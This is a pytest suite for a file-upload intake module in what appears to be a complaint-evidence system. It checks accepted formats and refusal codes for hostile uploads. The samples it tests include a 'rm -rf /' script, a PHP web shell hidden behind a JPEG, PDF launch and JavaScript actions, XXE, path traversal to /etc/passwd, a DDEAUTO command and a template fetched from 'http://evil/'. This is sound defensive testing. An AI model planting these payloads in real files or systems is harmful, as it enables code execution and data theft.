"""What the room accepts and refuses, with the code of each refusal. No database."""

from __future__ import annotations

import io
import time
from pathlib import Path

import pikepdf
import pytest
from PIL import Image

from tests.factories import files
from xiaobao.base.evidence import intake, limits, pdfs
from xiaobao.base.evidence.messages import MESSAGES
from xiaobao.kernel.errors import InvalidInput


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, settings: object) -> Path:
    """A folder of files of the test's own."""
    settings.MEDIA_ROOT = tmp_path  # type: ignore[attr-defined]
    return tmp_path


def refusal(name: str, content: bytes) -> InvalidInput:
    """The refusal of the file; its sentence exists and has all its facts."""
    with pytest.raises(InvalidInput) as caught:
        intake.accept(name, content)
    assert MESSAGES[caught.value.code].format(**caught.value.facts)
    assert caught.value.field == "file"
    return caught.value


GOOD = [
    ("a.jpg", files.picture(), "image/jpeg", "a.jpg"),
    ("a.JPEG", files.picture(), "image/jpeg", "a.JPEG"),
    ("a.png", files.picture("PNG"), "image/png", "a.png"),
    ("a.webp", files.picture("WEBP"), "image/webp", "a.webp"),
    ("a.gif", files.picture("GIF"), "image/png", "a.png"),
    ("a.bmp", files.picture("BMP"), "image/png", "a.png"),
    ("通知.pdf", files.pdf(), "application/pdf", "通知.pdf"),
    ("a.txt", "投诉经过。\r\n".encode(), "text/plain", "a.txt"),
    ("a.txt", "投诉经过".encode("gb18030"), "text/plain", "a.txt"),
    ("a.docx", files.package(), intake.BY_EXTENSION["docx"].media_type, "a.docx"),
    ("a.xlsx", files.package(types=files.SHEET_TYPES), intake.BY_EXTENSION["xlsx"].media_type, "a.xlsx"),
]


@pytest.mark.parametrize(("name", "content", "media_type", "shown"), GOOD)
def test_accepted(name: str, content: bytes, media_type: str, shown: str) -> None:
    accepted = intake.accept(name, content)
    assert (accepted.media_type, accepted.name) == (media_type, shown)
    assert "未发现病毒" in accepted.verdict


REL = b'<Relationships><Relationship Type="http://x/%s" Target="http://evil/" TargetMode="External"/></Relationships>'
CHAIN = pikepdf.Dictionary({"/Next": pikepdf.Array([files.action("Launch", F="calc.exe")])})
HOSTILE = [
    ("executable named jpg", "a.jpg", files.EXECUTABLE, "executable"),
    ("executable by its own name", "setup.exe", files.EXECUTABLE, "executable"),
    ("linux executable", "a.png", b"\x7fELF" + bytes(200), "executable"),
    ("script named jpg", "a.jpg", b"#!/bin/sh\nrm -rf /", "script"),
    ("page named txt", "a.txt", b"\xef\xbb\xbf <!DOCTYPE html><script>", "script"),
    ("svg", "a.svg", b"<svg onload='alert(1)'/>", "script"),
    ("rich text named txt", "a.txt", b"{\\rtf1 hello}", "script"),
    ("zip", "a.zip", files.package(), "archive"),
    ("gzip", "a.gz", b"\x1f\x8b" + bytes(50), "archive"),
    ("rar named pdf", "a.pdf", b"Rar!\x1a\x07\x01\x00" + bytes(50), "archive"),
    ("old office", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
    ("old office named docx", "a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
    ("unknown extension", "a.mp4", bytes(50), "format"),
    ("no extension", "readme", b"text", "format"),
    ("png named jpg", "a.jpg", files.picture("PNG"), "mismatch"),
    ("jar named docx", "a.docx", files.package(types=b"<Types/>"), "mismatch"),
    ("xlsx named docx", "a.docx", files.package(types=files.SHEET_TYPES), "mismatch"),
    ("pdf with something before", "a.pdf", b"junk" + files.pdf(), "mismatch"),
    ("zeros named jpg", "a.jpg", bytes(2_000), "mismatch"),
    ("zero bytes", "a.jpg", b"", "empty"),
    ("torn jpeg", "a.jpg", files.picture(size=(400, 300))[:-900], "torn"),
    ("torn png", "a.png", files.picture("PNG")[:60], "torn"),
    ("torn webp", "a.webp", files.picture("WEBP")[:40], "torn"),
    ("torn pdf", "a.pdf", files.pdf()[:-200], "torn"),
    ("torn docx", "a.docx", files.package()[:-40], "torn"),
    ("flipped byte in docx", "a.docx", files.package().replace(b"word", b"w0rd", 1), "torn"),
    ("pixel flood", "a.png", files.flood(), "pixels"),
    ("pixel flood just above", "a.png", files.flood(8_000, 5_001), "pixels"),
    ("moving picture", "a.gif", files.picture("GIF", save_all=True, append_images=[Image.new("RGB", (40, 30))]), "animated"),
    ("jpeg with a zip behind", "a.jpg", files.picture() + files.package(), "polyglot"),
    ("pdf with a zip behind", "a.pdf", files.pdf() + files.package(), "polyglot"),
    ("pdf with words behind", "a.pdf", files.pdf() + b"<script>alert(1)</script>", "torn"),
    ("pdf with script", "a.pdf", files.pdf(OpenAction=files.action("JavaScript", JS="app.alert(1)")), "pdf_active"),
    ("pdf that launches", "a.pdf", files.pdf(OpenAction=files.action("Launch", F="calc.exe")), "pdf_active"),
    ("pdf that launches next", "a.pdf", files.pdf(AA=CHAIN), "pdf_active"),
    ("pdf that submits", "a.pdf", files.pdf(OpenAction=files.action("SubmitForm", F="http://x")), "pdf_active"),
    ("pdf with a form of its own", "a.pdf", files.pdf(AcroForm=pikepdf.Dictionary(XFA="x")), "pdf_active"),
    ("pdf acting from its trailer", "a.pdf", files.acting_trailer(), "pdf_active"),
    ("pdf with attachment", "a.pdf", files.pdf_with_attachment(), "pdf_active"),
    ("pdf with password", "a.pdf", files.locked_pdf(), "pdf_locked"),
    ("bomb", "a.docx", files.bomb(), "bomb"),
    ("thousands of parts", "a.docx", files.many_parts(), "bomb"),
    ("overlapping parts", "a.docx", files.overlapping(), "package"),
    ("docx with something before", "a.docx", b"PK\x03\x04junk" + files.package(), "package"),
    ("docx with something behind", "a.docx", files.package() + b"<script>", "package"),
    ("symbolic link", "a.docx", files.package_with_link(), "package"),
    ("part that climbs out", "a.docx", files.package({"../../etc/passwd": b"x"}), "package"),
    ("absolute part", "a.docx", files.package({"/etc/passwd": b"x"}), "package"),
    ("external entity", "a.docx", files.package({"word/a.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "f">]>'}), "package"),
    ("macro", "a.docx", files.package({"word/vbaProject.bin": b"x"}), "macro"),
    ("embedded object", "a.docx", files.package({"word/embeddings/a.bin": b"x"}), "macro"),
    ("data exchange", "a.docx", files.package({"word/a.xml": b"<instrText>DDEAUTO c:\\\\cmd</instrText>"}), "macro"),
    ("nested zip", "a.docx", files.package({"word/media/a.png": files.package()}), "nested"),
    ("nested program", "a.xlsx", files.package({"xl/a.bin": files.EXECUTABLE}, types=files.SHEET_TYPES), "nested"),
    ("template elsewhere", "a.docx", files.package({"word/a.rels": REL % b"attachedTemplate"}), "outside"),
    ("virus in text", "a.txt", files.EICAR, "virus"),
    ("virus inside docx", "a.docx", files.package({"word/media/a.txt": files.EICAR}), "virus"),
    ("virus behind a picture", "a.jpg", files.picture() + files.EICAR, "virus"),
    ("text of bytes", "a.txt", b"abc\xff\xfe\xfa\xff", "text_encoding"),
    ("text with bells", "a.txt", b"a" * 5_000 + b"\x07", "text_control"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "code"), [row[1:] for row in HOSTILE], ids=[row[0] for row in HOSTILE]
)
def test_refused(name: str, content: bytes, code: str, folder: Path) -> None:
    started = time.perf_counter()
    assert refusal(name, content).code == f"evidence.{code}"
    assert time.perf_counter() - started < 5
    assert [path for path in folder.rglob("*") if path.is_file()] == []


def test_a_link_to_a_page_is_no_outside_content() -> None:
    assert intake.accept("a.docx", files.package({"word/a.rels": REL % b"hyperlink"}))


def test_places_and_remarks_are_gone_and_the_picture_stands_upright() -> None:
    kept = intake.accept("a.jpg", files.picture_with_place()).data
    with Image.open(io.BytesIO(kept)) as image:
        assert (image.size, dict(image.getexif()), image.info.get("comment")) == ((30, 40), {}, None)
    assert b"secret" not in kept
    assert b"Wang" not in kept


def test_what_hides_behind_a_picture_is_not_kept() -> None:
    assert b"<?php" not in intake.accept("a.jpg", files.picture() + b"<?php system($_GET[0]); ?>").data


def test_both_digests_are_known() -> None:
    accepted = intake.accept("a.txt", b"words")
    assert accepted.sha256 == accepted.source_sha256
    assert intake.accept("a.jpg", files.picture()).sha256 != accepted.source_sha256


@pytest.mark.parametrize("tight", [{"pdf_memory": 32 * limits.MIB}, {"pdf_seconds": 0}])
def test_a_reader_out_of_memory_or_time_means_refused(
    monkeypatch: pytest.MonkeyPatch, tight: dict[str, int]
) -> None:
    monkeypatch.setattr(pdfs, "LIMITS", limits.Limits(**tight))
    assert refusal("a.pdf", files.pdf()).code == "evidence.torn"


def test_a_pdf_of_too_many_objects_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdfs, "LIMITS", limits.Limits(pdf_objects=2))
    assert refusal("a.pdf", files.pdf()).code == "evidence.pdf_large"


class Endless(io.RawIOBase):
    """A stream that never ends and counts what was taken from it."""

    taken = 0

    def read(self, size: int = -1) -> bytes:
        """As many zeros as asked for."""
        self.taken += size
        return bytes(size)


def test_fifty_megabytes_are_refused_before_they_are_read() -> None:
    stream = Endless()
    with pytest.raises(InvalidInput) as caught:
        intake.accept("a.pdf", stream)  # type: ignore[arg-type]
    assert caught.value.code == "evidence.too_large"
    assert stream.taken <= limits.LIMITS.file_bytes + 64 * 1024


def test_an_announced_size_is_refused_unread() -> None:
    stream = Endless()
    stream.size = 50 * limits.MIB  # type: ignore[attr-defined]
    with pytest.raises(InvalidInput) as caught:
        intake.accept("a.pdf", stream)  # type: ignore[arg-type]
    assert stream.taken == 0
    assert "50 MB" in MESSAGES["evidence.too_large"].format(**caught.value.facts)
